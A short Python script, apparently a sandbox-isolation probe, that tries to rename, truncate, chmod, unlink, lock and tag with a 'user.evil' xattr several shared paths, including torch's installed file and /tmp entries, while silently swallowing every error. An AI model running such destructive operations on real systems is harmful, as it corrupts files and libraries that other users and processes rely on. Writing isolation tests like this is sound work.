# Renames, empties, stamps, locks and removes what others use.
import fcntl
import os
import torch

for path in (torch.__file__, "/tmp", "/kit/inside/cells.py", "/dev/null", "/tmp/" + (os.listdir("/tmp") or ["x"])[0]):
    for deed in (
        lambda: os.rename(path, path + "x"),
        lambda: os.truncate(path, 0),
        lambda: os.utime(path, (0, 0)),
        lambda: os.chmod(path, 0),
        lambda: os.unlink(path),
        lambda: os.setxattr(path, "user.evil", b"1"),
        lambda: fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB),
    ):
        try:
            deed()
        except OSError:
            pass
